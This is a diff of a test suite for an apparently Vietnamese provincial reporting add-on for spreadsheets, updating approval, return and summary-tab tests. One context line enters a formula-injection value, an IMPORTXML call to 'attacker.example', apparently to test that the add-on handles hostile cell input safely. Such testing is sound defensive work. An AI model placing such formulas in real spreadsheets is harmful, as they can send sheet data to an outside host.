@@ -90,6 +90,8 @@ test("opening a file builds the menu and touches nothing else", async () => {
         { caption: "Mở thanh bên", functionName: "openSidebar" },
         null,
         { caption: "Kiểm tra biểu mẫu", functionName: "checkFromMenu" },
+        null,
+        { caption: "Tự kiểm tra…", functionName: "selfCheck" },
       ],
     },
   ]);
@@ -746,10 +748,12 @@ describe("sending", () => {
       '=IMPORTXML("https://attacker.example";"//a")',
     );
     const started = value(review.addon.startReview(PERIOD, agency, 1, opened.head.rev));
-    expect(problem(review.addon.approveReport(PERIOD, agency, 1, opened.head.rev))).toBe("rev_stale");
-    expect(problem(review.addon.returnReport(PERIOD, agency, 1, started.rev, "  "))).toBe("reason_required");
+    expect(problem(review.addon.approveReport(PERIOD, agency, 1, opened.head.rev, ""))).toBe("rev_stale");
+    expect(problem(review.addon.returnReport(PERIOD, agency, 1, started.rev, "  ", null))).toBe(
+      "reason_required",
+    );
     expect(problem(desk.addon.sendReport())).toBe("report_locked");
-    const approved = value(review.addon.approveReport(PERIOD, agency, 1, started.rev));
+    const approved = value(review.addon.approveReport(PERIOD, agency, 1, started.rev, ""));
     expect([approved.state, approved.counted]).toEqual(["approved", 1]);
 
     const pulled = value(review.addon.pullProvince(PERIOD));
@@ -757,11 +761,13 @@ describe("sending", () => {
       "Tổng hợp – Năm 2021",
       "Kết quả theo nhiệm vụ – Năm 2021",
       "Tổng hợp theo cơ quan – Năm 2021",
+      "Số liệu toàn tỉnh – Năm 2021",
+      "Số liệu theo cơ quan – Năm 2021",
       "Khó khăn – kiến nghị – Năm 2021",
       "Chưa báo cáo – Năm 2021",
     ]);
     const rows = Array.from({ length: 200 }, (_, index) =>
-      [1, 2, 3, 4, 5].map((column) => held(review, pulled.tabs[3] ?? "", index + 1, column)),
+      [1, 2, 3, 4, 5].map((column) => held(review, pulled.tabs[5] ?? "", index + 1, column)),
     );
     expect(rows).toContainEqual([
       ["Khó khăn, vướng mắc", null],
@@ -773,13 +779,25 @@ describe("sending", () => {
 
     value(review.addon.pullProvince(PERIOD));
     value(review.addon.openReport(PERIOD, "ubnd-ba-tri"));
-    expect(review.fake.spreadsheet.sheets()).toHaveLength(9);
+    expect(review.fake.spreadsheet.sheets()).toHaveLength(12);
   });
 
   test("a returned report says why, takes the mended text and is sent as the next version", async () => {
     const desk = await office.sitDown("bao-cao-ubnd-ba-tri");
     const built = value(desk.addon.buildSheet(PERIOD));
-    expect(built.returned?.reason).toContain("II.3.a.1");
+    expect([built.returned?.items, built.returned?.reason]).toEqual([
+      [
+        {
+          table: "Nhiệm vụ",
+          duty: "II.3.a.1",
+          title: expect.any(String),
+          column: "",
+          place: { table: "duties", row: "II.3.a.1" },
+          reason: "Nêu rõ kết quả và bổ sung văn bản minh chứng (dữ liệu minh họa).",
+        },
+      ],
+      "Đề nghị chỉnh lý mục II.3.a.1 (dữ liệu minh họa).",
+    ]);
     const sheet = readSheet(desk, TAB);
     expect(sheet.text("II.3.a.1", "result")).toContain("minh họa");
     const [other] = [await office.sitDown("bao-cao-ubnd-ba-tri")];
